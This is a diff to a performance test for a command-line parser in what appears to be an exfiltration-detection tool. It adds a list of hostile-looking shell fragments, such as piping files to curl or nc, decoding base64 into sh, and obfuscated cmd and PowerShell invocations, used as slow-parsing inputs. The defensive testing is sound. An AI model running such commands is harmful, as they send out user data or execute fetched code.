@@ -8,11 +8,13 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from exfilwatch.commands.addresses import host, url
-from exfilwatch.commands.command import LONGEST, Command, Undoing
+from exfilwatch.commands.command import LONGEST, LONGEST_LINE, Command, Undoing
+from exfilwatch.commands.fields import _fields, fields
 from exfilwatch.commands.letters import folded
 from exfilwatch.commands.paths import path
 from exfilwatch.commands.shells.argv import argv
 from exfilwatch.commands.shells.posix import commands
+from exfilwatch.commands.understand import understood
 
 PIECES = [
     "curl", "-T", "x", "é", "x=", "x='a b'", "$x", "${x}", "${x:0:2}", "${x#a*}", "${x//a/b}", "${x:-", "${", "$(",
@@ -147,3 +149,35 @@ def test_a_typical_line_of_4_kb_is_split_in_120_microseconds(line: str) -> None:
 def test_no_script_takes_more_than_50_milliseconds(piece: str) -> None:
     seconds = _seconds(posix, _filled(piece, LONGEST))
     assert seconds / _loop() < 0.050 / 50e-6
+
+
+HOSTILE = [
+    ("posix", "cmd /c echo a|base64 -d|sh >-T x xxd -r -p "),
+    ("posix", "cat x|curl -T - h|"),
+    ("posix", "tar c /home/a|nc h 1;"),
+    ("powershell", "cmd /c {1..9}aGVsbG8="),
+    ("powershell", "foreach(\\\\h@SSL\\s\\a -split "),
+    ("cmd", 'cmd /v:on /c "set x=cu&& !x!rl" '),
+    ("cmd", "net use x: \\\\h\\s & copy a x:\\ &"),
+    ("", "bash -c '$env:temp"),
+    ("", "powershell -c \"iex ('a'+'b')"),
+    ("", "ssh h 'sudo env -S xargs "),
+]
+"""Languages and pieces of lines that are slow to be understood, as random ones of such pieces showed."""
+
+
+@pytest.mark.parametrize(("language", "piece"), HOSTILE)
+def test_no_line_takes_more_than_50_milliseconds_to_say_what_it_does(language: str, piece: str) -> None:
+    line = (piece * (LONGEST_LINE // len(piece) + 1))[:LONGEST_LINE]
+    event = {"ScriptBlockText" if language == "powershell" else "CommandLine": line}
+    if language == "cmd":
+        event["Image"] = r"C:\Windows\System32\cmd.exe"
+    elif language == "posix":
+        event["Image"] = "/bin/sh"
+
+    def told(_line: str) -> object:
+        _fields.cache_clear()
+        understood.cache_clear()
+        return fields(event.get)
+
+    assert _seconds(told, line) / _loop() < 0.050 / 50e-6
